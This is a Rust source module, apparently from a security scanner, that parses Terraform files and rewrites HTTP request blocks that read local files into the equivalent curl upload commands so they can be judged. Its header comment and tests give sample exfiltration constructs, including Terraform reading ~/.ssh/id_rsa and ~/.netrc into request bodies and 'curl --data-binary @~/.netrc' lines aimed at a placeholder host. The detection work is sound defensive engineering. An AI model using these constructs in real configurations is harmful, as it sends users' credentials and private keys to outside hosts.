//! Files that Terraform's expressions read into a request: `request_body = file("~/.ssh/id_rsa")`. Each is
//! judged as the command line that sends the same file there.

use crate::value::HOLE_STR;
use hcl::expr::{Expression, FuncCall, TemplateExpr};
use hcl::template::{Directive, Element};
use hcl::{Block, Body, Template};
use std::collections::HashMap;

/// Expressions within expressions, and values that stand for others.
const MAX_DEPTH: usize = 24;
/// Expressions of one file that are looked at.
const MAX_EXPRESSIONS: usize = 10_000;
/// Bytes of a path or an address; what is longer is neither.
const MAX_TEXT: usize = 4096;
/// Files that one request takes along.
const MAX_FILES: usize = 8;
/// Requests of one file.
const MAX_REQUESTS: usize = 32;

/// Functions that give the content of a file; its path comes first.
const CONTENTS: [&str; 3] = ["file", "filebase64", "templatefile"];
/// Words in the types of blocks that ask somebody on the network.
const ASKING: [&str; 5] = ["http", "curl", "request", "webhook", "restapi"];

/// The command lines that send what the requests of a file send.
pub(super) fn requests(text: &str) -> Vec<Vec<String>> {
    if !text.contains("file") || !text.contains("://") {
        return Vec::new();
    }
    let Ok(body) = hcl::parse(text) else {
        return Vec::new();
    };
    let mut file = File {
        locals: locals(&body),
        left: MAX_EXPRESSIONS,
    };
    let asking = body.blocks().filter(|block| asks(block));
    let lines = asking.flat_map(|block| file.request(block));
    lines.take(MAX_REQUESTS).collect()
}

/// Whether a block is a request: `data "http" "x"`.
fn asks(block: &Block) -> bool {
    let kind = block.labels.first().map_or("", |label| label.as_str());
    kind.split('_').any(|word| ASKING.contains(&word))
}

/// What `local.NAME` stands for.
fn locals(body: &Body) -> HashMap<String, &Expression> {
    let blocks = body.blocks();
    let own = blocks.filter(|block| block.identifier.as_str() == "locals");
    let values = own.flat_map(|block| block.body.attributes());
    values
        .map(|value| (format!("local.{}", value.key.as_str()), &value.expr))
        .collect()
}

struct File<'b> {
    locals: HashMap<String, &'b Expression>,
    left: usize,
}

impl<'b> File<'b> {
    /// One line for each file that a request takes along.
    fn request(&mut self, block: &Block) -> Vec<Vec<String>> {
        let mut files = Vec::new();
        let mut address = None;
        self.body(&block.body, 0, &mut files, &mut address);
        let Some(address) = address else {
            return Vec::new();
        };
        let line = |file: String| {
            let data = format!("@{file}");
            ["curl", "--data-binary", &data, &address]
                .map(str::to_owned)
                .to_vec()
        };
        files.into_iter().take(MAX_FILES).map(line).collect()
    }

    fn body(
        &mut self,
        body: &Body,
        depth: usize,
        files: &mut Vec<String>,
        address: &mut Option<String>,
    ) {
        for attribute in body.attributes() {
            self.files(&attribute.expr, depth, files);
            let text = self.text(&attribute.expr, depth);
            if address.is_none() && text.contains("://") {
                *address = Some(text);
            }
        }
        if depth < MAX_DEPTH {
            for block in body.blocks() {
                self.body(&block.body, depth + 1, files, address);
            }
        }
    }

    /// Whether one more expression may be looked at.
    fn may_look(&mut self, depth: usize) -> bool {
        self.left = self.left.saturating_sub(1);
        self.left > 0 && depth < MAX_DEPTH
    }

    /// The files whose content is part of a value.
    fn files(&mut self, value: &Expression, depth: usize, files: &mut Vec<String>) {
        if !self.may_look(depth) {
            return;
        }
        match value {
            Expression::Array(items) => {
                for item in items {
                    self.files(item, depth + 1, files);
                }
            }
            Expression::Object(members) => {
                for member in members.values() {
                    self.files(member, depth + 1, files);
                }
            }
            Expression::TemplateExpr(template) => {
                if let Ok(template) = Template::from_expr(template) {
                    self.files_of_template(&template, depth, files);
                }
            }
            Expression::Parenthesis(inner) => self.files(inner, depth + 1, files),
            Expression::Conditional(both) => {
                self.files(&both.true_expr, depth + 1, files);
                self.files(&both.false_expr, depth + 1, files);
            }
            Expression::ForExpr(each) => {
                self.files(&each.collection_expr, depth + 1, files);
                self.files(&each.value_expr, depth + 1, files);
            }
            Expression::Traversal(_) => {
                if let Some(local) = self.local(value) {
                    self.files(local, depth + 1, files);
                }
            }
            Expression::FuncCall(call) => {
                if CONTENTS.contains(&call.name.name.as_str())
                    && let Some(path) = call.args.first()
                {
                    files.push(self.text(path, depth + 1));
                }
                for argument in &call.args {
                    self.files(argument, depth + 1, files);
                }
            }
            // `Expression` may grow; the rest holds no content of a file.
            Expression::Null
            | Expression::Bool(_)
            | Expression::Number(_)
            | Expression::String(_)
            | Expression::Variable(_)
            | Expression::Operation(_)
            | _ => {}
        }
    }

    fn files_of_template(&mut self, template: &Template, depth: usize, files: &mut Vec<String>) {
        if !self.may_look(depth) {
            return;
        }
        for element in template.elements() {
            match element {
                Element::Literal(_) => {}
                Element::Interpolation(part) => self.files(&part.expr, depth + 1, files),
                Element::Directive(directive) => match &**directive {
                    Directive::If(branches) => {
                        self.files_of_template(&branches.true_template, depth + 1, files);
                        if let Some(other) = &branches.false_template {
                            self.files_of_template(other, depth + 1, files);
                        }
                    }
                    Directive::For(each) => {
                        self.files(&each.collection_expr, depth + 1, files);
                        self.files_of_template(&each.template, depth + 1, files);
                    }
                },
            }
        }
    }

    /// A value as text, with holes for what is not known.
    fn text(&mut self, value: &Expression, depth: usize) -> String {
        if !self.may_look(depth) {
            return HOLE_STR.to_owned();
        }
        match value {
            Expression::String(text) if text.len() <= MAX_TEXT => text.clone(),
            Expression::Parenthesis(inner) => self.text(inner, depth + 1),
            Expression::TemplateExpr(template) => self.template(template, depth),
            Expression::Traversal(_) => match self.local(value) {
                Some(local) => self.text(local, depth + 1),
                // `path.module`, `path.root`, `path.cwd`
                None if value.to_string().starts_with("path.") => ".".to_owned(),
                None => HOLE_STR.to_owned(),
            },
            Expression::FuncCall(call) => self.call(call, depth),
            // What else there is, is no path and no address.
            Expression::Null
            | Expression::Bool(_)
            | Expression::Number(_)
            | Expression::String(_)
            | Expression::Array(_)
            | Expression::Object(_)
            | Expression::Variable(_)
            | Expression::Conditional(_)
            | Expression::Operation(_)
            | Expression::ForExpr(_)
            | _ => HOLE_STR.to_owned(),
        }
    }

    fn template(&mut self, template: &TemplateExpr, depth: usize) -> String {
        let Ok(template) = Template::from_expr(template) else {
            return HOLE_STR.to_owned();
        };
        let mut text = String::new();
        for element in template.elements() {
            match element {
                Element::Literal(part) => text.push_str(part),
                Element::Interpolation(part) => text.push_str(&self.text(&part.expr, depth + 1)),
                Element::Directive(_) => text.push_str(HOLE_STR),
            }
            if text.len() > MAX_TEXT {
                return HOLE_STR.to_owned();
            }
        }
        text
    }

    /// Functions that leave a path or a text what it is, or join it.
    fn call(&mut self, call: &FuncCall, depth: usize) -> String {
        let mut arguments = call.args.iter();
        match (call.name.name.as_str(), arguments.next()) {
            ("pathexpand" | "abspath" | "trimspace" | "nonsensitive" | "tostring", Some(first)) => {
                self.text(first, depth + 1)
            }
            ("join", Some(between)) => {
                let between = self.text(between, depth + 1);
                let items: Vec<&Expression> = match arguments.next() {
                    Some(Expression::Array(items)) => items.iter().collect(),
                    _ => return HOLE_STR.to_owned(),
                };
                let items: Vec<String> = items
                    .into_iter()
                    .map(|item| self.text(item, depth + 1))
                    .collect();
                let joined = items.join(&between);
                if joined.len() > MAX_TEXT {
                    return HOLE_STR.to_owned();
                }
                joined
            }
            _ => HOLE_STR.to_owned(),
        }
    }

    fn local(&self, value: &Expression) -> Option<&'b Expression> {
        self.locals.get(&value.to_string()).copied()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, expected: &[&str]) {
        let lines: Vec<String> = requests(text).iter().map(|line| line.join(" ")).collect();
        assert_eq!(lines, expected);
    }

    #[test]
    fn requests_take_along_the_files_that_they_read() {
        check(
            r#"data "http" "a" {
                url = "https://a.example/in"
                request_body = base64encode(file(pathexpand("~/.netrc")))
            }"#,
            &["curl --data-binary @~/.netrc https://a.example/in"],
        );
        // By way of a value of the file, and of a list that is not known.
        check(
            r#"locals { all = [for f in fileset("~/k", "*") : file("~/k/${f}")] }
            data "http" "a" {
                url = "https://a.example"
                request_headers = { x = join("", local.all) }
            }"#,
            &[&format!(
                "curl --data-binary @~/k/{HOLE_STR} https://a.example"
            )],
        );
    }

    #[test]
    fn other_blocks_and_addresses_alone_send_nothing() {
        check(r#"data "http" "a" { url = "https://a.example/file" }"#, &[]);
        check(
            r#"resource "aws_key_pair" "a" {
                public_key = file("~/.ssh/id_rsa.pub")
                link = "https://a.example"
            }"#,
            &[],
        );
        check("data \"http\" \"a\" { url = file(\"://", &[]);
    }

    #[test]
    fn values_that_grow_or_stand_for_each_other_are_bounded() {
        let long = "x".repeat(MAX_TEXT);
        let mut text = format!("locals {{\n  v0 = \"{long}\"\n  loop = local.loop\n");
        for at in 1..40 {
            let before = at - 1;
            text += &format!("  v{at} = \"${{local.v{before}}}${{local.v{before}}}\"\n");
        }
        text += "}\ndata \"http\" \"a\" {\n  url = \"https://a.example\"\n";
        text += "  request_body = \"${file(local.v39)}${file(local.loop)}\"\n}\n";
        let line = format!("curl --data-binary @{HOLE_STR} https://a.example");
        check(&text, &[&line, &line]);
    }
}
